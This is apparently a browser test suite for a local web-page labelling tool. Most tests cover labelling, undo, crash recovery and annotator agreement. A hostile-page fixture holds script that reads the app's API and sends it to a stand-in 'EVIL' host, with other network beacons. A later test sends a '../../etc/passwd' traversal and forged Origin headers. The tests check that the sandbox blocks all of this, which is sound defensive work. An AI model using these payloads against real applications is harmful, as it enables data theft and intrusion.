"""Labelling in the browser, as a person does it: Chromium driven by Playwright, the program as it is built.

    DURAMEN_PROGRAM=target/debug/duramen python -m pytest tests/browser

With DURAMEN_SCREENSHOTS=FOLDER the pictures of docs/ are written there.
"""

import http.server
import json
import os
import re
import shutil
import signal
import subprocess
import threading
from pathlib import Path

import pytest
from playwright.sync_api import expect, sync_playwright

# A page of twenty thousand blocks on a busy machine.
expect.set_options(timeout=60_000)

PROGRAM = os.environ.get("DURAMEN_PROGRAM", "target/debug/duramen")
CHROMIUM = os.environ.get("DURAMEN_CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
SCREENSHOTS = os.environ.get("DURAMEN_SCREENSHOTS")

TREES = ["oak", "ash", "elm", "yew", "fir", "lime", "beech", "pine"]


def page(number: int) -> str:
    tree = TREES[number % len(TREES)]
    return f"""<!DOCTYPE html><html lang="en"><head><title>The {tree} of the green, part {number}</title>
    <style>body {{ font: 16px sans-serif; max-width: 50em }} .side {{ color: #555 }}</style></head><body>
    <ul class="menu"><li><a href="/">Home</a></li><li><a href="/trees">Trees</a></li><li><a href="/about">About</a></li></ul>
    <h1>The {tree} of the green, part {number}</h1><p class="by">By Ann Ash</p>
    <p>The {tree} of the village fell on Monday night after a storm that lasted for six hours, and nobody was hurt.</p>
    <p>It had stood there for more than four hundred years, as the mayor of the village said on Tuesday morning.</p>
    <div class="side">Wood of the {tree} is sold by the metre, ask for it at the mill on Fridays and on Saturdays</div>
    <div class="side">The walk of the society begins at nine, and dogs are welcome as long as they are on a lead</div>
    <h2>Comments</h2><div class="comment">I will miss the {tree}, we played there as children</div></body></html>"""


class Running:
    """The program while it serves."""

    def __init__(self, folder: Path, *arguments: str):
        self.process = subprocess.Popen(
            [PROGRAM, "annotate", *arguments, "--no-open"], cwd=folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        self.url = self.process.stdout.readline().strip()
        assert self.url.startswith("http://127.0.0.1:"), self.process.stderr.read()

    def end(self, how: int = signal.SIGINT) -> tuple[int, str, str]:
        self.process.send_signal(how)
        out, err = self.process.communicate(timeout=60)
        return self.process.returncode, out, err


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "pages").mkdir()
    for number in range(3):
        (tmp_path / "pages" / f"{number}.html").write_text(page(number))
    index = "id,url\n" + "".join(f"{number},https://wood.example/{number}\n" for number in range(3))
    (tmp_path / "pages" / "urls.csv").write_text(index)
    return tmp_path


def opened(browser, running):
    """The application, with its first page shown."""
    tab = browser.new_page(viewport={"width": 1280, "height": 800})
    tab.goto(running.url)
    is_there(tab)
    expect(tab.locator("#message")).to_have_text("")
    return tab


def is_there(tab, name: str | None = None):
    """Waits until the page is shown with its labels."""
    if name is not None:
        expect(tab.locator("#pages")).to_have_value(name)
    expect(tab.locator("#selected")).to_have_text(re.compile("^Block "))


def frame(tab):
    return tab.frame_locator("#frame")


def piece(tab, text: str):
    return frame(tab).locator("duramen-t", has_text=text).first


def press(tab, *keys: str):
    for key in keys:
        tab.keyboard.press(key)
        expect(tab.locator("body")).to_have_attribute("aria-busy", "false")


def journal(folder: Path) -> list[dict]:
    return [json.loads(line) for line in (folder / "labels" / "annotations.log").read_text().splitlines()]


def screenshot(tab, name: str):
    if SCREENSHOTS:
        tab.screenshot(path=str(Path(SCREENSHOTS) / name))


def test_a_page_is_labelled_by_mouse_and_keys(browser, folder):
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    assert "The oak of the village fell" in tab.inner_text("#text")
    piece(tab, "Wood of the oak").click()
    assert re.match(r"Block \d+ of \d+", tab.inner_text("#selected"))
    press(tab, "6")
    assert "Wood of the oak" not in tab.inner_text("#text")
    # What looks the same is taken for the same.
    assert piece(tab, "The walk of the society").get_attribute("l") == "B"
    press(tab, "Control+z")
    assert "Wood of the oak" in tab.inner_text("#text")
    press(tab, "Control+y")
    assert "Wood of the oak" not in tab.inner_text("#text")
    # A range by Shift and click, a subtree by the elements around.
    piece(tab, "Comments").click()
    piece(tab, "I will miss").click(modifiers=["Shift"])
    assert tab.inner_text("#selected").startswith("Blocks ")
    press(tab, "5")
    assert piece(tab, "I will miss").get_attribute("l") == "K"
    piece(tab, "Home").click()
    press(tab, "h")
    assert tab.inner_text("#selected").startswith("Blocks ")
    screenshot(tab, "annotate.png")
    press(tab, "6")
    press(tab, "t")
    tab.select_option("#kind", "article")
    expect(tab.locator("body")).to_have_attribute("aria-busy", "false")
    tab.locator("#kind").blur()
    press(tab, "Enter")
    is_there(tab, "1")
    assert tab.inner_text("#progress").startswith("1 of 3 accepted")
    # The next page of the site knows what was labelled.
    assert piece(tab, "Wood of the ash").get_attribute("l") == "B"
    code, out, err = running.end()
    assert code == 0 and "1 of 3 pages accepted" in err, err
    lines = [json.loads(line) for line in (folder / "labels" / "0.jsonl").read_text().splitlines()]
    labels = {line["text"]: line["label"] for line in lines}
    assert labels["Home"] == "not-content" and labels["I will miss the oak, we played there as children"] == "comments"
    index = json.loads((folder / "labels" / "pages.jsonl").read_text())
    assert index["page_type"] == "article" and index["url"] == "https://wood.example/0"
    check = subprocess.run([PROGRAM, "data", "check", "labels"], cwd=folder, capture_output=True, text=True)
    assert check.returncode == 0, check.stderr


def test_what_a_mark_changes_is_shown_and_a_click_leaves_enter_free(browser, folder):
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    piece(tab, "Wood of the oak").click()
    press(tab, "6")
    assert re.search(r"\d+ other blocks? changed too", tab.inner_text("#message"))
    assert piece(tab, "The walk of the society").get_attribute("c") is not None
    # All that stands in such a place, and one step back for all of it.
    press(tab, "3", "e")
    walk = piece(tab, "The walk of the society")
    assert (walk.get_attribute("l"), walk.get_attribute("m")) == ("S", "")
    before = tab.inner_text("#state")
    press(tab, "a")
    assert tab.inner_text("#state") != before
    press(tab, "Control+z")
    assert tab.inner_text("#state") == before
    press(tab, "Control+z")
    assert walk.get_attribute("m") is None
    # What the labels mean.
    press(tab, "?")
    assert "what the reader came for" in tab.inner_text("#keys")
    tab.keyboard.press("Escape")
    assert "author, date" in tab.get_by_role("button", name="3 Supplemental").get_attribute("title")
    tab.locator("#least").click()
    press(tab, "Enter")
    is_there(tab, "1")
    running.end()


def test_nothing_accepted_is_lost_when_the_program_is_killed(browser, folder):
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    piece(tab, "Wood of the oak").click()
    press(tab, "6")
    running.end(signal.SIGKILL)
    press(tab, "1")
    expect(tab.locator("#message")).to_contain_text("does not answer")
    again = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, again)
    assert "Wood of the oak" not in tab.inner_text("#text")
    assert tab.inner_text("#state").startswith("1 mark,")
    tab.reload()
    is_there(tab)
    expect(tab.locator("#state")).to_contain_text("1 mark,")
    # A line that was cut off is no line.
    again.end()
    with (folder / "labels" / "annotations.log").open("a") as file:
        file.write('{"page": "0", "annot')
    last = Running(folder, "pages", "-o", "labels")
    last.end()
    assert len(journal(folder)) == 1


def test_two_annotators_are_compared(browser, folder):
    for name, key in [("ann", "2"), ("ben", "6")]:
        running = Running(folder, "pages", "-o", "labels", "--order", "name", "--annotator", name)
        tab = opened(browser, running)
        piece(tab, "Wood of the oak").click()
        press(tab, key, "Enter")
        is_there(tab, "1")
        code, out, err = running.end()
        assert code == 0
    assert "Agreement on 1 page labelled twice" in out, out
    assert {work["annotator"] for work in journal(folder)} == {"ann", "ben"}


def test_a_page_is_skipped_with_a_reason_alone(browser, folder):
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    press(tab, "x")
    assert "why the page is skipped" in tab.inner_text("#message")
    tab.fill("#note", "a page of another language")
    tab.locator("#note").blur()
    press(tab, "x")
    is_there(tab, "1")
    running.end()
    assert journal(folder)[-1]["status"] == "skipped"
    assert not (folder / "labels" / "0.jsonl").exists()


def test_marks_go_to_the_other_pages_of_a_site(browser, folder):
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    piece(tab, "Wood of the oak").click()
    press(tab, "6")
    asked = []
    tab.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.accept()))
    press(tab, "s")
    expect(tab.locator("#message")).to_contain_text("2 pages")
    assert "4 blocks of 2 other pages" in asked[0]
    press(tab, "n")
    is_there(tab, "1")
    ash = piece(tab, "Wood of the ash")
    assert ash.get_attribute("m") is not None and ash.get_attribute("o") is not None
    ash.click()
    assert "marked on another page of this site" in tab.inner_text("#where")
    # What is marked here is one's own.
    press(tab, "1")
    assert ash.get_attribute("m") is not None and ash.get_attribute("o") is None
    running.end()


def test_labels_that_are_there_are_reviewed(browser, folder):
    texts = ["The {} of the village fell on Monday night after a storm that lasted for six hours, and nobody was hurt.", "Home\nTrees\nAbout"]
    for number in range(3):
        (folder / "pages" / f"{number}.txt").write_text(texts[number == 1].format(TREES[number]))
    running = Running(folder, "--review", "pages", "-m", "web-blocks", "-o", "labels")
    tab = opened(browser, running)
    # The page whose text is its menu comes first, and what is improbable is selected.
    is_there(tab, "1")
    assert piece(tab, "The ash of the village").get_attribute("d") is not None
    piece(tab, "The ash of the village").click()
    assert "it came as Not content" in tab.inner_text("#where") and "the model says Text" in tab.inner_text("#where")
    screenshot(tab, "annotate-review.png")
    assert tab.locator("#undo").is_disabled()
    press(tab, "2")
    assert piece(tab, "The ash of the village").get_attribute("d") is None
    piece(tab, "Home").click()
    piece(tab, "About").click(modifiers=["Shift"])
    press(tab, "6", "Enter")
    expect(tab.locator("#pages")).not_to_have_value("1")
    running.end()
    lines = [json.loads(line) for line in (folder / "labels" / "1.jsonl").read_text().splitlines()]
    labels = {line["text"]: line["label"] for line in lines}
    assert labels["Home"] == "not-content"
    assert labels["The ash of the village fell on Monday night after a storm that lasted for six hours, and nobody was hurt."] == "full-text"


def test_another_system_is_compared_where_it_disagrees_first(browser, folder):
    # A page on which nothing is boilerplate: the two agree.
    (folder / "pages" / "1.html").write_text(f"<h1>The ash</h1><p>{'It fell on Monday night after a storm that lasted for hours. ' * 5}")
    running = Running(folder, "pages", "--beside", "everything", "-m", "web-blocks", "-o", "labels")
    tab = opened(browser, running)
    assert tab.locator("#pages option").nth(2).get_attribute("value") == "1"
    # What only the other keeps is framed, and the first of it is selected.
    assert piece(tab, "Home").get_attribute("d") is not None
    assert piece(tab, "The oak of the village").get_attribute("d") is None
    press(tab, "u")
    assert "everything: Text" in tab.inner_text("#where")
    assert tab.inner_text("#beside-name") == "everything" and "Home" in tab.inner_text("#beside-text")
    assert "Home" not in tab.inner_text("#text")
    piece(tab, "Home").click()
    press(tab, "2")
    assert piece(tab, "Home").get_attribute("d") is None
    running.end()


def test_draws_are_shown_beside_exact_inference(browser, folder):
    sample = [PROGRAM, "sample", "pages/0.html", "--chains", "2", "--sweeps", "40", "--burn-in", "10", "--all-states", "-d", "draws"]
    subprocess.run(sample, cwd=folder, check=True, capture_output=True)
    running = Running(folder, "pages/0.html", "--beside", "draws", "-m", "web-blocks", "-o", "labels")
    tab = opened(browser, running)
    assert tab.inner_text("#beside-name") == "sample"
    piece(tab, "The oak of the village").click()
    assert re.search(r"Text, P = [01]\.\d\d; sample: [\w ]+, P = [01]\.\d\d", tab.inner_text("#where"))
    assert "The oak of the village" in tab.inner_text("#beside-text")
    running.end()
    # Draws of one page say nothing of another.
    refused = subprocess.run([PROGRAM, "annotate", "pages/1.html", "--beside", "draws", "-o", "other", "--no-open"], cwd=folder, capture_output=True, text=True)
    assert refused.returncode == 3 and "no chain ran over the page" in refused.stderr


HOSTILE = """<html><head><base href="http://EVIL/"><meta http-equiv="refresh" content="0;url=http://EVIL/refresh">
<link rel="stylesheet" href="http://EVIL/style.css"><style>@import "http://EVIL/import.css"; body {{ background: url(http://EVIL/css.png) }}
@font-face {{ font-family: x; src: url(http://EVIL/font.woff) }} h1 {{ font-family: x }}</style>
<script>fetch("http://EVIL/script"); parent.document.title = "taken"; fetch("/api/pages").then((a) => a.text()).then((t) => fetch("http://EVIL/" + t))</script></head>
<body onload="fetch('http://EVIL/onload')"><h1 style="background: url(http://EVIL/inline.png)">The oak</h1>
<p>A page that tries to reach the application and the network, in all the ways that its author could think of.</p>
<img src="http://EVIL/image.png" onerror="fetch('http://EVIL/onerror')"><iframe src="http://EVIL/frame"></iframe>
<object data="http://EVIL/object"></object><embed src="http://EVIL/embed"><video src="http://EVIL/video" poster="http://EVIL/poster" autoplay></video>
<a id="out" href="http://EVIL/link" target="_top" ping="http://EVIL/ping">A link out of here, for readers who click on what they see</a>
<form action="http://EVIL/form"><button id="send">Send it to us at once, today</button></form>
<svg><script>fetch("http://EVIL/svg")</script><image href="http://EVIL/svg.png" /></svg></body></html>"""


def test_a_hostile_page_reaches_neither_the_application_nor_the_network(browser, folder):
    asked = []

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    hostile = HOSTILE.replace("{{", "{").replace("}}", "}").replace("EVIL", f"127.0.0.1:{evil.server_port}")
    (folder / "pages" / "0.html").write_text(hostile)
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    address = tab.url
    piece(tab, "A link out of here").click()
    piece(tab, "A link out of here").click(button="middle")
    piece(tab, "Send it to us").click()
    tab.wait_for_timeout(1000)
    assert asked == []
    assert tab.url == address and tab.title() == "Duramen: label pages"
    assert len(browser.contexts[-1].pages) == 1
    # Where the page's own markup reached the browser untouched, the policy of the answer would still hold.
    answer = tab.request.get(re.sub(r"/\?", "/page/0?", running.url))
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "sandbox allow-same-origin" in policy and "script-src" not in policy
    running.end()
    evil.shutdown()


def test_others_on_the_machine_get_nothing(browser, folder):
    running = Running(folder, "pages", "-o", "labels")
    tab = opened(browser, running)
    base = re.sub(r"\?.*", "", running.url)
    assert tab.request.get(base).status == 403
    assert tab.request.get(base + "api/pages").status == 403
    assert tab.request.get(base + "api/pages", headers={"X-Duramen-Token": "0" * 32}).status == 403
    token = running.url.split("token=")[1]
    good = {"X-Duramen-Token": token}
    assert tab.request.get(base + "api/pages", headers=good).status == 200
    for bad in [{"Host": "evil.example"}, {"Origin": "http://evil.example"}, {"Origin": "null"}]:
        assert tab.request.get(base + "api/pages", headers=good | bad).status == 403, bad
    assert tab.request.post(base + "api/open", headers=good, data="{").status == 400
    assert tab.request.post(base + "api/open", headers=good, data='{"page": "../../etc/passwd"}').status == 400
    running.end()


def test_a_page_of_twenty_thousand_blocks_can_be_labelled(browser, folder):
    rows = "".join(f"<p>Line {number} of a long list of names and of trees</p>" for number in range(20_000))
    (folder / "pages" / "0.html").write_text(f"<title>Long</title><h1>A long list</h1>{rows}")
    running = Running(folder, "pages", "-o", "labels", "--order", "name")
    tab = opened(browser, running)
    assert tab.inner_text("#selected").endswith(" of 20001")
    piece(tab, "Line 7 of").click()
    press(tab, "4")
    expect(tab.locator("#state")).to_contain_text("1 mark,")
    running.end()
